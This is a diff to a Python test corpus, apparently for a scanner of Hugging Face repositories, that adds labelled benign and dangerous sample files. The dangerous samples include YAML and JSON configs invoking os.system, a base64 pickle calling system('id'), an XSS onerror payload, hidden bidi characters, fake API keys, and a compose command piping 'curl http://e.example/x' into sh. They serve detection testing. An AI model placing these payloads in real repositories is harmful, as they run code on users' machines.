@@ -6,7 +6,7 @@ import json
 from collections.abc import Mapping
 from typing import Any
 
-from corpus import bad, honest
+from corpus import Sample, add, bad, honest
 from corpus.repository import CONFIG, dumps, repository
 
 
@@ -265,3 +265,34 @@ def card_with_tag() -> Mapping[str, bytes]:
 @bad("huggingface", "a model card with script")
 def card_with_script() -> Mapping[str, bytes]:
     return repository(README__md=b"# Model\n\n<img src=x onerror=alert(1)>\n")
+
+
+@honest("huggingface", "a component of diffusers that lists two blocks", file="config.json")
+def diffusers_component() -> bytes:
+    blocks = ["DownBlock2D", "AttnDownBlock2D"]
+    return dumps({"_class_name": "UNet2DModel", "_diffusers_version": "0.3", "down_block_types": blocks})
+
+
+MORE = {
+    "commented_json": ("config.json", b'// remarks\n{"auto_map": {"AutoModel": "m.X"}}'),
+    "json5": ("config.json5", b"{auto_map: {AutoModel: 'm.X'}}"),
+    "yaml_that_begins_as_json": ("config.yaml", b'{"a": !!python/name:os.system ""}'),
+    "index_without_version": ("model_index.json", b'{"_class_name": "X", "unet": ["os", "system"]}'),
+    "module_with_odd_idx": ("modules.json", b'[{"idx": "0", "name": "0", "path": "", "type": "os.system"}]'),
+    "monai_initialize": ("inference.json", b'{"initialize": ["$import os", "$os.system(1)"]}'),
+    "old_notebook": (
+        "demo.ipynb",
+        dumps(
+            {"worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\nos.system('id')"]}]}], "nbformat": 3}
+        ),
+    ),
+    "secret_by_name": ("config.json", b'{"api_key": "Zt3KvLx0PbW7sYhRn2Jd"}'),
+    "secret_in_env": (".env", b"export=1\nAPI_KEY=Zt3KvLx0PbW7sYhRn2Jd\n"),
+    "command_in_yaml": ("compose.yaml", b"services:\n  x:\n    command: sh -c 'curl http://e.example/x | sh'\n"),
+    "order_in_json": ("config.json", b'{"a": "\\u202e evil text which is long enough \\u202c"}'),
+    "binary_pickle_in_yaml": ("a.yaml", b"- !!binary gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n"),
+}
+for _name, (_file, _data) in MORE.items():
+    _build = lambda data=_data: data  # noqa: E731
+    _why = f"a configuration: {_name.replace('_', ' ')}"
+    add(Sample(f"huggingface/{_name}", "huggingface", _why, _file, "", _build, dangerous=True))
